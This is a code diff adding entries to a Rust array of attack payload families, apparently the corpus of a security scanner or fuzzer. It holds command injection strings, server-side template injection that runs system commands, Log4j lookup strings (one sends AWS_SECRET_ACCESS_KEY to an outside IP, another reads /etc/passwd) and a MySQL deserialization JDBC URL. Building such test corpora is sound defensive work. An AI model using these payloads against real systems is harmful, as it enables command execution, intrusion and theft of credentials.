@@ -87,6 +87,8 @@ pub const FAMILIES: &[Family] = &[
             "a;X=$'\\x69\\x64';$X",
             "203.0.113.7\nsleep 5",
             "; msbuild x.xml",
+            "127.0.0.1|id",
+            "x|$0 -c id",
         ],
     },
     Family {
@@ -212,6 +214,7 @@ pub const FAMILIES: &[Family] = &[
             "${{<%[%'\"}}%\\.",
             "*{7*7}",
             "<%= open('|id').read %>",
+            "<%= Object.const_get('Kernel').method('system').call('id') %>",
         ],
     },
     Family {
@@ -267,6 +270,7 @@ pub const FAMILIES: &[Family] = &[
             "${jndi:dns://203.0.113.5/${env:AWS_SECRET_ACCESS_KEY}}",
             "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
             "${file:UTF-8:/etc/passwd}",
+            "jdbc:mysql://203.0.113.5:3306/t?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
         ],
     },
     // Redirect targets a check reads as this site's path or name and a
